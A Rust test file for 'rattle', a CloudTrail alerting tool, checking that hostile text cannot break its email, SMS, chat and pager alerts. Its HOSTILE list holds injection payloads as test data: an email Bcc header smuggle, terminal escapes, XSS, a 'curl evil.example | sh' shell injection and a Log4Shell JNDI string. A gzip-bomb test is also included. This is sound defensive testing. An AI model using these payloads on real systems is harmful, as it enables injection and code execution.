//! Text that an attacker chooses, and files that were not meant as input.

use rattle::alert::email::Email;
use rattle::alert::machine::rattle::FindingLine;
use rattle::alert::machine::{asff, ocsf};
use rattle::alert::{chat, pager, sms::sms, title::what};
use rattle::cloudtrail::secret::MAX_NAME_BYTES;
use rattle::detection::finding::{EpisodeSummary, Finding, MAX_NAMED, Reads};
use rattle::text::Text;
use serde_json::{Value, json};

use crate::alerts::deployment;
use crate::support::{
    InMemory, MONDAY, TemporaryFolder, gzip, parse, rattle, record, stderr, stdout,
};

pub const HOSTILE: [&str; 9] = [
    "prod/db\r\nBcc: victim@example.com\r\n\r\nAll clear",
    "\u{1b}[2J\u{1b}[31mred\u{7}\u{8}\u{9b}31m\u{0}\u{7f}",
    "\u{202e}drowssap/dorp\u{202c}\u{2066}x\u{2069}\u{200f}\u{feff}",
    "<script>alert(1)</script><a href=\"https://evil.example/\">x</a>",
    "https://evil.example/login?x=1",
    "www.evil.example",
    "'; curl evil.example | sh; '$(id)`id`",
    "prod/\u{0440}\u{0430}y\u{2028}x\u{2029}y",
    "%s%n{{7*7}}${jndi:ldap://evil.example/a}",
];

/// A finding about a role whose free fields all hold this text.
fn finding(text: &str) -> Finding {
    finding_of(text, &|_| {})
}

/// The same about another kind of principal.
fn finding_of(text: &str, change: &dyn Fn(&mut Value)) -> Finding {
    let store = InMemory::new();
    let mut found = None;
    for i in 0..5 {
        let mut record = record((MONDAY + i) as f64, &format!("e{i}"), &[format!("{i}{text}")]);
        record["userIdentity"]["principalId"] = json!(format!("AROAEXAMPLECIDEPLOY01:{text}"));
        record["userAgent"] = json!(text);
        record["sourceIPAddress"] = json!(text);
        record["awsRegion"] = json!(text);
        record["errorMessage"] = json!(format!(
            "User: x is not authorized to perform: secretsmanager:GetSecretValue on resource: {text} \
             with an explicit deny in a service control policy: arn:{}",
            text.replace(' ', "")
        ));
        change(&mut record["userIdentity"]);
        let denial = parse(&record).unwrap().unwrap();
        found = found.or(store.deliver(&denial, jiff::SignedDuration::ZERO).finding);
    }
    found.unwrap()
}

fn assert_harmless(text: &str) {
    let finding = finding(text);
    let Email { subject, body } = Email::about(&finding, &deployment());
    assert_subject(&subject);
    assert_body(&body);
    assert_json(&serde_json::to_string(&FindingLine::of(&finding)).unwrap());
    assert_within_all_limits(text, finding);
}

pub fn assert_subject(subject: &str) {
    assert!(subject.len() < 100, "{subject}");
    assert!(subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{subject:?}");
}

/// Checks plain text whose headings and commands no caller can change.
pub fn assert_body(body: &str) {
    assert!(body.len() < 16 << 10, "{} bytes", body.len());
    assert!(body.chars().all(|c| c == '\n' || c == '±' || (' '..='~').contains(&c)), "{body:?}");
    assert_eq!(body.matches("://").count(), 1, "file://new-value and no link: {body}");
    assert!(!body.contains("evil.example"), "a link: {body}");
    let headings = body.lines().filter(|line| line.starts_with("WHAT TO DO")).count();
    assert_eq!(headings, 1);
    for command in body.lines().filter(|line| line.trim_start().starts_with("aws ")) {
        assert!(!command.contains("id)") && !command.contains("curl"), "{command}");
    }
    assert!(!body.lines().any(|line| line.starts_with("Bcc") || line.starts_with("All clear")));
}

pub fn assert_json(line: &str) {
    assert!(line.is_ascii() || line.chars().all(|c| c == '±' || c.is_ascii()), "{line}");
    assert!(!line.chars().any(char::is_control), "{line:?}");
    assert!(line.len() < 16 << 10);
    let _: Value = serde_json::from_str(line).unwrap();
}

fn assert_within_all_limits(text: &str, finding: Finding) {
    let federated = finding_of(text, &|identity| {
        *identity = json!({
            "type": "FederatedUser",
            "principalId": format!("111122223333:{text}"),
            "arn": format!("arn:aws:sts::111122223333:federated-user/{text}"),
            "sessionContext": {"sessionIssuer": {"principalId": format!("AIDAEXAMPLE{text}")}},
        });
    });
    let unknown = finding_of(text, &|identity| {
        *identity = json!({"type": text, "principalId": text, "userName": text, "accountId": text});
    });
    for finding in [finding, federated, unknown] {
        assert_within_limits(&finding);
        let totals = EpisodeSummary {
            severity: finding.severity,
            denials: u32::MAX,
            secrets: 512,
            first_denial: 0,
            last_denial: 99_999_999_999,
        };
        let ended = Finding::resolved(&finding, totals);
        assert_within_limits(&ended);
        let reads = Reads {
            denied: 512,
            read: 256,
            secrets: vec![Text::new(text, MAX_NAME_BYTES); MAX_NAMED],
            first: 0,
            last: 99_999_999_999,
        };
        assert_within_limits(&Finding { reads: Some(reads.clone()), ..ended });
        assert_within_limits(&Finding::access_after_denial(&finding, reads, None));
    }
}

/// Each rendering stays within the limits of its protocol, however long the names are.
fn assert_within_limits(finding: &Finding) {
    let is_printable = |text: &str| text.bytes().all(|byte| (b' '..=b'~').contains(&byte));
    let Email { subject, body } = Email::about(finding, &deployment());
    assert!(subject.len() < 100 && is_printable(&subject), "{subject:?}");
    assert!(subject.contains(&what(finding)), "the counts are never cut: {subject}");
    assert!(body.len() < 16 << 10, "{} bytes", body.len());
    for line in body.lines().take(3) {
        assert!(line.chars().count() <= 72, "{line}");
    }
    assert!(body.contains(&what(finding)), "{body}");

    let sms = sms(finding);
    assert!(sms.len() <= 140 && is_printable(&sms), "{sms:?}");
    assert!(sms.contains(&what(finding)), "{sms}");

    let pager = pager::body(finding, &deployment());
    assert!(pager["AlarmName"].as_str().unwrap().len() <= 255, "{pager}");
    assert!(pager["NewStateReason"].as_str().unwrap().len() <= 1023, "{pager}");
    let chat = chat::body(finding, &deployment());
    let characters = |value: &Value| value.as_str().unwrap().chars().count();
    assert!(characters(&chat["content"]["title"]) <= chat::MAX_TITLE, "{chat}");
    assert!(characters(&chat["content"]["description"]) <= chat::MAX_DESCRIPTION, "{chat}");
    assert_no_markup(&chat);
    let asff = asff::finding(finding, &deployment());
    for (field, most) in [("Title", 256), ("Description", 1024), ("Id", 512), ("GeneratorId", 512)]
    {
        assert!((1..=most).contains(&characters(&asff[field])), "{field}: {asff}");
    }
    let machine = serde_json::to_string(&FindingLine::of(finding)).unwrap();
    let all = [&body, &body, &sms, &pager.to_string(), &pager.to_string(), &machine, &machine];
    let bytes: usize = all.iter().map(|body| serde_json::to_string(body).unwrap().len()).sum();
    for text in [&chat.to_string(), &asff.to_string(), &ocsf::finding(finding).to_string()] {
        assert!(text.len() < 64 << 10, "{} bytes", text.len());
    }
    assert!(bytes < 200 << 10, "{bytes} bytes in one message");
}

/// In a chat message a caller's words stand between two backticks and nowhere else.
fn assert_no_markup(chat: &Value) {
    let content = &chat["content"];
    let mut texts =
        vec![content["title"].as_str().unwrap(), content["description"].as_str().unwrap()];
    for list in ["nextSteps", "keywords"] {
        texts.extend(content[list].as_array().unwrap().iter().map(|text| text.as_str().unwrap()));
    }
    texts.push(chat["metadata"]["summary"].as_str().unwrap());
    for text in texts {
        for forbidden in ["<", ">", "@", "](", "://", "evil.example", "example.com", "|", "~"] {
            assert!(!text.contains(forbidden), "{forbidden} in {text}");
        }
        assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text:?}");
        let fences = text.matches("```").count();
        assert_eq!(fences % 2, 0, "{text}");
        for (i, part) in text.replace("```", "").split('`').enumerate() {
            assert!(i % 2 == 0 || !part.contains('\n'), "code over several lines: {text}");
            assert!(i % 2 == 1 || !part.contains("prod/"), "a name outside code: {text}");
        }
        assert_eq!(text.matches('`').count() % 2, 0, "{text}");
    }
}

#[test]
fn no_text_of_a_caller_breaks_an_alert() {
    for text in HOSTILE {
        assert_harmless(text);
        assert_harmless(&text.repeat(60));
    }
    assert_harmless(&"x".repeat(4_096));
    assert_harmless(&"\n".repeat(4_096));
}

#[test]
fn the_hostile_envelope_is_shown_for_what_it_is() {
    let output = rattle(
        &[
            "replay",
            "events/denied-role__hostile-text-cut-at-one-kilobyte.json",
            "--min-denials=1",
            "--min-secrets=1",
            "--secrets-threshold=1",
        ],
        b"",
    );
    let text = stdout(&output);
    assert!(
        text.contains(r"prod/payments/db\nBcc: victim@e...m/http[:]//evil[.]example[.]com/http")
    );
    assert!(text.contains("www[.]evil[.]example[.]com@+prod=login"), "{text}");
    assert!(!text.contains('\u{1b}') && !text.contains("http://"));
}

#[test]
fn no_input_reaches_the_terminal_as_it_is() {
    let folder = TemporaryFolder::new("names");
    let path = folder.write("a\u{1b}[31m\nb.json", "{\"eventName\":\u{1b}[31m}");
    let time = json!("\u{1b}[2J\nrattle: all clear");
    let mut forged = record(0.0, "e", &[]);
    forged["eventTime"] = time;
    folder.write("c.json", forged.to_string());
    let output = rattle(&["replay", folder.path().to_str().unwrap()], b"");
    assert_eq!(output.status.code(), Some(0));
    let complaints = stderr(&output);
    assert!(
        complaints.contains(r"a\u{1b}[31m\nb.json: line 1, byte 0: not valid JSON"),
        "{complaints}"
    );
    assert!(complaints.contains(r#"eventTime is "\u{1b}[2J\nrattle: all clear", not a time"#));
    assert!(!complaints.contains('\u{1b}'));
    let missing = rattle(&["replay", "no\u{1b}such"], b"");
    assert_eq!(missing.status.code(), Some(2));
    assert!(stderr(&missing).contains(r"no\u{1b}such: cannot be read: "));
    drop(path);
}

#[test]
fn a_gzip_that_is_cut_off_stops_the_run() {
    let folder = TemporaryFolder::new("cut");
    let whole = gzip(json!({"Records": [record(MONDAY as f64, "e", &[])]}).to_string().as_bytes());
    let path = folder.write("cut.json.gz", &whole[..whole.len() - 20]);
    let output = rattle(&["replay", path.to_str().unwrap()], b"");
    assert_eq!(output.status.code(), Some(2));
    let complaint = stderr(&output);
    assert!(complaint.contains("cut.json.gz: cannot be read after"), "{complaint}");
    assert!(complaint.contains("the gzip data is cut off"), "{complaint}");

    let mut broken = whole.clone();
    let middle = broken.len() / 2;
    broken[middle] ^= 0xff;
    let path = folder.write("broken.json.gz", &broken);
    let output = rattle(&["replay", path.to_str().unwrap()], b"");
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
}

/// A gzip file of 2 MB that holds one record of 2 GiB: it is read in the memory of one record.
#[test]
fn a_bomb_is_read_in_bounded_memory() {
    let folder = TemporaryFolder::new("bomb");
    let record = record(MONDAY as f64, "e", &[]).to_string();
    // A gzip file may have several members, and repeating one member of zeros is quick.
    let filler = gzip(&vec![b'x'; 64 << 20]);
    let mut bomb = gzip(b"[{\"eventName\":\"");
    for _ in 0..32 {
        bomb.extend_from_slice(&filler);
    }
    bomb.extend_from_slice(&gzip(format!("\"}},{record}]").as_bytes()));
    assert!(bomb.len() < 4 << 20);
    let path = folder.write("bomb.json.gz", &bomb);

    let output = std::process::Command::new("sh")
        .args(["-c", "ulimit -v 262144 && exec \"$0\" replay --summary json \"$1\""])
        .arg(env!("CARGO_BIN_EXE_rattle"))
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = stderr(&output);
    let summary: Value = serde_json::from_str(&text).unwrap();
    let error = summary["rejections"][0]["error"].as_str().unwrap();
    assert!(error.contains("a record is longer than 2 MiB"), "{error}");
    assert_eq!((&summary["counted"], &summary["rejected"]), (&json!(1), &json!(1)));
}
